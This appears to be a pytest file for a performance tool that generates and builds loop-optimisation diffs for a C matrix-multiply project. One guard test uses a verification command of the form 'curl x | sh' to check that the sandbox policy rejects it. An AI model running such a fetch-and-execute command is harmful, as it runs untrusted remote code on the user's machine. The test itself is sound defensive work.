"""attach_diffs on a user's project: catalog source proposals about src/mm.c:LINE get a
generated diff that passes the same checks as a hand-written one, builds and keeps the output;
what cannot be generated is listed with the reason."""

from __future__ import annotations

import shutil
import subprocess
import tempfile
from dataclasses import replace
from pathlib import Path

import pytest
from tests.advise.conftest import finding
from tests.conftest import require_tool

from perfscout.advise import advise
from perfscout.advise.facts import Facts
from perfscout.experiment.patching import apply_unified_diff
from perfscout.model.findings import Finding
from perfscout.model.proposals import Proposal, Verification
from perfscout.model.snapshot import PlatformSnapshot
from perfscout.patch.workflow import check_scope, diff_files
from perfscout.pipeline.source_changes import attach_diffs, split_scope
from transform import programs as P
from transform._cc import line_of

MM = """#include "mm.h"

void multiply(long n, const double *A, const double *B, double *C) {
  for (long i = 0; i < n; i++)
    for (long j = 0; j < n; j++) {
      double acc = 0.0;
      for (long k = 0; k < n; k++)
        acc += A[i * n + k] * B[k * n + j];
      C[i * n + j] = acc;
    }
}
"""
MAIN = """#include <stdio.h>
#include <stdlib.h>
#include "mm.h"
int main(int argc, char **argv) {
  long n = argc > 1 ? atol(argv[1]) : NDEF;
  double *A = malloc(sizeof(double) * n * n), *B = malloc(sizeof(double) * n * n),
         *C = malloc(sizeof(double) * n * n);
  for (long i = 0; i < n * n; i++) { A[i] = (double)(i % 6) - 2.0; B[i] = (double)(i % 4); }
  multiply(n, A, B, C);
  double s = 0.0;
  for (long i = 0; i < n * n; i++) s += C[i] * (double)(1 + i % 9);
  printf("n=%ld sum=%.17g\\n", n, s);
  return 0;
}
"""
MAKEFILE = """CFLAGS ?= -O2
mm: src/main.c src/mm.c
\t$(CC) $(CFLAGS) -DNDEF=70 -Iinclude -o mm src/main.c src/mm.c $(LDLIBS)
"""
HOT = line_of(MM, "acc += ")


@pytest.fixture(scope="module")
def live() -> PlatformSnapshot:
    from perfscout.sandbox import default_runner
    from perfscout.snapshot import take_snapshot

    with tempfile.TemporaryDirectory() as ws:
        return take_snapshot(default_runner(Path(ws)))


@pytest.fixture()
def project(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    (root / "src").mkdir(parents=True)
    (root / "include").mkdir()
    (root / "src" / "mm.c").write_text(MM)
    (root / "src" / "main.c").write_text(MAIN)
    (root / "include" / "mm.h").write_text(
        "void multiply(long n, const double *A, const double *B, double *C);\n")
    (root / "Makefile").write_text(MAKEFILE)
    return root


@pytest.fixture()
def policy(tmp_path: Path):  # type: ignore[no-untyped-def]
    from perfscout.sandbox import default_runner

    ws = tmp_path / "ws"
    ws.mkdir()
    shutil.copy("/usr/bin/true", ws / "kernel")
    return default_runner(ws).check


def _findings(scope: str) -> list[Finding]:
    return [finding("hw.cache_locality", scope=scope), finding("hw.vectorization", scope=scope),
            finding("hw.frontend", scope=scope)]


def _make(root: Path, flags: str = "", libs: str = "") -> str:
    require_tool("make")
    subprocess.run(["make", "-s", "-B", f"CFLAGS=-O2 {flags}", f"LDLIBS={libs}"], cwd=root,
                   check=True, capture_output=True, timeout=300)
    return subprocess.run([str(root / "mm")], capture_output=True, text=True, check=True,
                          timeout=300).stdout


def test_catalog_proposals_get_checked_diffs_that_build(project: Path, live: PlatformSnapshot,
                                                        policy) -> None:  # type: ignore[no-untyped-def]
    scope = f"src/mm.c:{HOT}"
    fs = _findings(scope)
    adv = advise(fs, live, [], policy_check=policy)
    source = [p for p in adv.proposals if p.kind == "source"]
    assert {"loop_interchange", "omp_simd", "loop_tiling", "loop_unroll"} <= {p.id for p in source}
    out, bad = attach_diffs(adv.proposals, project, facts=Facts.build(fs, live, []),
                            policy=policy)
    assert [p.id for p in out] == [p.id for p in adv.proposals]  # nothing dropped
    assert not bad, bad
    base = _make(project)
    for p in out:
        if p.kind != "source":
            assert p == next(q for q in adv.proposals if q.id == p.id)  # untouched
            continue
        assert p.change is not None and p.change.diff
        assert diff_files(p.change.diff) == ("src/mm.c",)
        check_scope(diff_files(p.change.diff), ["src/mm.c"])
        assert "generated:" in p.change.description
        work = project.parent / f"w-{p.id}"
        shutil.copytree(project, work)
        mm = work / "src" / "mm.c"
        mm.write_text(apply_unified_diff(MM, p.change.diff, "src/mm.c"))
        flags = " ".join(f for f in p.change.flags if not f.startswith("-l"))
        libs = " ".join(f for f in p.change.flags if f.startswith("-l"))
        assert _make(work, flags, libs) == base, p.id
    assert (project / "src" / "mm.c").read_text() == MM  # the user's tree is never written


def test_blas_for_the_users_gemm(project: Path, live: PlatformSnapshot) -> None:
    scope = f"src/mm.c:{HOT}"
    fs = [finding("alg.complexity", scope=scope)]
    # advise offers use_blas only when a profile names a dense kernel: build the entry directly
    from perfscout.advise.catalog import get_entry
    p = get_entry("use_blas").build(Facts.build(fs, live, []), fs[0])
    assert p is not None and p.scope == scope
    blas = [p]
    out, bad = attach_diffs(blas, project)
    assert not bad, bad
    ch = out[0].change
    assert ch is not None and "cblas_dgemm" in ch.diff and "-lopenblas" in ch.flags
    work = project.parent / "w-blas"
    shutil.copytree(project, work)
    (work / "src" / "mm.c").write_text(apply_unified_diff(MM, ch.diff, "src/mm.c"))
    assert _make(work, "", "-lopenblas") == _make(project)


def _source(pid: str, scope: str, **over: object) -> Proposal:
    p = Proposal(id=pid, kind="source", scope=scope, addresses=("hw.vectorization",),
                 verification=Verification((("perf", "stat", "--", "./kernel"),),
                                           "time.elapsed", "lower"))
    return replace(p, **over)  # type: ignore[arg-type]


def test_what_cannot_be_generated_is_listed_with_why(tmp_path: Path) -> None:
    root = tmp_path / "p"
    root.mkdir()
    (root / "scan.c").write_text(P.PREFIX_SUM)
    hot = line_of(P.PREFIX_SUM, "HOT")
    props = [
        _source("omp_simd", f"scan.c:{hot}"),
        _source("parallelize_omp", f"{root}/scan.c:{hot}"),  # absolute, under the root
        _source("loop_interchange", "../elsewhere.c:3"),
        _source("loop_tiling", "multiply"),
        _source("numa_first_touch", "scan.c:3"),
        _source("omp_simd", "missing.c:3"),
    ]
    out, bad = attach_diffs(props, root)
    assert len(out) == len(props) and all(not (p.change and p.change.diff) for p in out)
    why = [(u.proposal_id, u.reason) for u in bad]
    assert len(why) == 6
    assert "dependence on x" in why[0][1] and "x[i - 1]" in why[0][1]
    assert "carried by loop i" in why[1][1]
    assert "outside the source root" in why[2][1]
    assert "names no file:line" in why[3][1]
    assert "no generator for numa_first_touch" in why[4][1]
    assert "not a readable file" in why[5][1]


def test_a_generated_diff_meets_the_guards(tmp_path: Path, live: PlatformSnapshot,
                                           policy) -> None:  # type: ignore[no-untyped-def]
    """The generated proposal goes through run_guards like any other: here the real sandbox
    policy denies its verification command, so it is listed, not offered."""
    root = tmp_path / "p"
    root.mkdir()
    (root / "dot.c").write_text(P.DOT)
    scope = f"dot.c:{line_of(P.DOT, 'HOT')}"
    fs = [finding("hw.vectorization", scope=scope)]
    from perfscout.advise.catalog import get_entry
    built = get_entry("omp_simd").build(Facts.build(fs, live, []), fs[0])
    assert built is not None
    good = replace(built, scope=scope)
    denied = replace(good, verification=Verification((("bash", "-c", "curl x | sh"),),
                                                     "time.elapsed", "lower"))
    out, bad = attach_diffs([good, denied], root, facts=Facts.build(fs, live, []),
                            policy=policy)
    assert out[0].change is not None and "#pragma omp simd reduction(+:s)" in out[0].change.diff
    assert [u.proposal_id for u in bad] == ["omp_simd"]
    assert bad[0].reason.startswith("guard policy:")


def test_split_scope() -> None:
    assert split_scope("src/a.c:12") == ("src/a.c", 12)
    assert split_scope("C:/x/a.c:7") == ("C:/x/a.c", 7)
    assert split_scope("multiply") is None and split_scope("a.c:") is None


def test_generated_diff_goes_through_the_patch_workflow(project: Path, tmp_path: Path) -> None:
    """In a git repository the generated diff becomes a perfscout/<id> branch with one commit
    (the user's tree untouched), exactly like a hand-written diff."""
    from perfscout.config import load_config
    from perfscout.patch.workflow import apply_proposal
    from perfscout.pipeline.patch_flow import open_git

    git_bin = require_tool("git")
    for args in (["init", "-q"], ["config", "user.name", "U"],
                 ["config", "user.email", "u@example.invalid"], ["add", "-A"],
                 ["commit", "-q", "-m", "initial"]):
        subprocess.run([git_bin, *args], cwd=project, check=True, capture_output=True)
    out, bad = attach_diffs([_source("loop_interchange", f"src/mm.c:{HOT}")], project)
    assert not bad and out[0].change is not None
    cfg = load_config(env={"PERFSCOUT_HOME": str(tmp_path / "home"),
                           "PERFSCOUT_WORKSPACE": str(tmp_path / "ws")})
    git = open_git(project, cfg)
    rec = apply_proposal(git, tmp_path / "home", "loop_interchange", out[0].change.diff,
                         ("src/mm.c",))
    assert rec.files == ("src/mm.c",)
    wt = Path(rec.worktree)
    assert (wt / "src" / "mm.c").read_text() == apply_unified_diff(MM, out[0].change.diff)
    assert (project / "src" / "mm.c").read_text() == MM
    log = subprocess.run([git_bin, "log", "-1", "--format=%B", rec.branch], cwd=project,
                         capture_output=True, text=True, check=True).stdout
    assert "Perfscout-Proposal: loop_interchange" in log


def test_a_profile_path_from_a_build_copy_is_matched_by_its_tail(project: Path) -> None:
    """The profile names the file where the build ran (a copy in the workspace): the diff is
    made against the same file under the source root, and says its path relative to it."""
    out, bad = attach_diffs([_source("omp_simd", f"/tmp/ws/build-7/src/mm.c:{HOT}")], project)
    assert not bad, bad
    assert out[0].change is not None and diff_files(out[0].change.diff) == ("src/mm.c",)
    out, bad = attach_diffs([_source("omp_simd", f"/elsewhere/other.c:{HOT}")], project)
    assert "outside the source root" in bad[0].reason
